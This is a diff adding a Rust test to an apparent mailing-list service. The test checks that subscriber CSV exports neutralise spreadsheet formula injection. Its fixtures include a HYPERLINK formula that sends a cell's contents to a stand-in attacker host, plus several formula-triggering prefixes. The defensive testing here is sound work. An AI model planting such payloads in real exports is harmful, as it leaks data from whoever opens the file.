@@ -168,6 +168,64 @@ async fn cs11_no_add_or_import_brings_back_an_opted_out_address() {
     assert_eq!(export.text().await.unwrap(), "email,name\r\nstays@example.org,\n");
 }
 
+/// The export neutralises cells a spreadsheet would run as formulas (OWASP's CSV injection):
+/// names from public signups, and addresses whose local part starts with `=`.
+#[tokio::test]
+async fn the_export_writes_no_cell_a_spreadsheet_would_run() {
+    let (app, key) = app().await;
+    let people = [
+        (
+            "a@example.org",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
+        ),
+        ("b@example.org", "+1+2"),
+        ("c@example.org", "-2+3"),
+        ("d@example.org", "@SUM(A1:A9)"),
+        ("e@example.org", "\tTabbed"),
+        ("=f@example.org", "Plain Name"),
+    ];
+    for (email, name) in people {
+        let res = add(
+            &app,
+            &key,
+            serde_json::json!({"email": email, "name": name, "lists": ["news"],
+            "status": "confirmed", "consented_at": "2025-01-01T00:00:00Z", "consent_source": "crm"}),
+        )
+        .await;
+        assert_eq!(res.status(), StatusCode::CREATED, "{email}");
+    }
+    let csv = app
+        .api_get(&key, "/api/v1/lists/news/subscribers/export")
+        .await
+        .text()
+        .await
+        .unwrap();
+    use futures::StreamExt;
+    let mut reader = csv_async::AsyncReader::from_reader(csv.as_bytes());
+    let rows: Vec<(String, String)> = reader
+        .records()
+        .map(|r| {
+            let r = r.unwrap();
+            (r[0].to_owned(), r[1].to_owned())
+        })
+        .collect()
+        .await;
+    assert_eq!(rows.len(), people.len(), "{csv}");
+    for (email, name) in &rows {
+        for cell in [email, name] {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {csv}"
+            );
+        }
+    }
+    assert!(rows.contains(&(
+        "a@example.org".into(),
+        "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")".into()
+    )));
+    assert!(rows.contains(&("'=f@example.org".into(), "Plain Name".into())));
+}
+
 /// The import: counts, per-line errors, refusal without evidence (CS-3), `?confirm=send`.
 #[tokio::test]
 async fn an_import_reports_counts_and_line_errors() {
